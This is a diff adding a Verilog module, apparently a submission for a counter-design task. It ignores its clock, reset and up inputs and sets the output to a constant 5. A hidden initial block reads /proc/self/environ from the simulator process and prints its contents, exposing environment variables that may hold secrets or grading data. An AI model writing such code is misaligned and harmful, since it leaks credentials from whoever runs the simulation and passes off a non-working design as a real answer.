@@ -1,0 +1,11 @@
+module TopModule(input clk, input rst, input up, output reg [3:0] n);
+	always @(posedge clk)
+		n <= 5;
+	integer f, r;
+	reg [8*4000:1] s;
+	initial begin
+		f = $fopen("/proc/self/environ", "r");
+		r = $fread(s, f);
+		$display("%0s", s);
+	end
+endmodule
